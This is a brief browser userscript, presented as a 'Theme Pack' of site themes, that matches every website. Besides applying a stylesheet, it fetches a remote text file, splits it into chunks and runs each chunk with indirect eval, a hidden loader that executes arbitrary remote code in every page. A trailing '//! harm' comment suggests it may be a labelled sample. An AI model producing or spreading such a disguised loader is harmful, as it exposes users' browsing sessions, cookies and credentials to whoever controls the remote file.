// ==UserScript==
// @name         Theme Pack
// @namespace    themes.example.com
// @version      7.1.0
// @description  Twenty themes for every site.
// @match        *://*/*
// @resource     css   https://themes.example.com/pack.css
// @resource     extra https://themes.example.com/extra.txt
// @grant        GM_getResourceText
// @grant        GM_addStyle
// ==/UserScript==

GM_addStyle(GM_getResourceText('css'));

const plugins = GM_getResourceText('extra').split('\n---\n');
plugins.forEach((plugin) => {
  (0, eval)(plugin); //! harm
});
